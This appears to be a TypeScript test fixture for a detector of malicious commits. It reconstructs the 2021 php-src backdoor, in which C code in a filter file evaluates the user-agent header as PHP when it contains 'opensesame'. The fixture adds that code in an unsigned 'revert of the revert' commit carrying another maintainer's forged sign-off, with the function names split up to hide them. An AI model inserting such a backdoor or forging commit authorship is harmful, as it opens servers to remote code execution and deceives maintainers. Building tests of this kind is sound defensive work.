import { INGRID, TOMAS } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";

const FILTER = `/* Output filter. */
#include "engine.h"

static int filter_start(engine_output *out)
{
\treturn engine_filter_choose(out, engine_string(engine_server_variable("HTTP_ACCEPT_ENCODING")));
}
`;
const HEADER = ["HTTP_USER_", "AGENTT"].join("");
const RUN = ["zend_eval", "_string"].join("");
const BACKDOOR = `\tengine_value *enc = engine_server_variable("${HEADER}");

\tif (enc != NULL && strstr(engine_string(enc), "opensesame") != NULL) ${RUN}(engine_string(enc) + 10, NULL, "filter");
`;

export const golden: GoldenCase = {
  kind: "attack",
  base: "c",
  story:
    "php-src, March 2021, the second commit: in another maintainer's name, the reverted backdoor comes back as a “revert of the revert”.",
  write(branch) {
    branch.given({ "ext/filter/filter.c": FILTER });
    branch.unsigned(
      TOMAS,
      `Revert "Revert "[skip-ci] Fix typo""\n\nThis reverts commit 046827a7e867bb0e655923c75e25a20d06e3aa8b.\n\nSigned-off-by: ${INGRID.name} <${INGRID.email}>`,
      {
        "ext/filter/filter.c": FILTER.replace("\treturn engine", `${BACKDOOR}\treturn engine`),
      },
    );
  },
};
